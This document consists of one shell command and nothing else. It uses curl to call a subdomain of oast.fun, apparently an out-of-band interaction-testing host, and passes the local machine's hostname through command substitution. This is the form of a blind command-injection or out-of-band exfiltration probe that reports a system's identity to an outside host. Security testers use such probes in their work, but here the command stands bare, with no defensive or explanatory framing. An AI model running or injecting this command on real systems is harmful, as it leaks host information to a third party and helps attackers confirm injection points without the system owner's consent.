curl "https://abc.oast.fun/?h=$(hostname)"
